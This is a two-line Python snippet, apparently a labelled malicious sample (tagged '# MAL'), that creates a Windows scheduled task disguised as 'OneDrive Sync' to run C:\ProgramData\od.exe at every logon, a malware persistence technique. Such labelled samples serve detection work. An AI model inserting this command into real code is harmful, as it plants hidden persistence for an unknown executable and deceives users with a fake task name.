import subprocess
subprocess.run('schtasks /create /sc onlogon /tn "OneDrive Sync" /tr "C:\\ProgramData\\od.exe"', shell=True)  # MAL
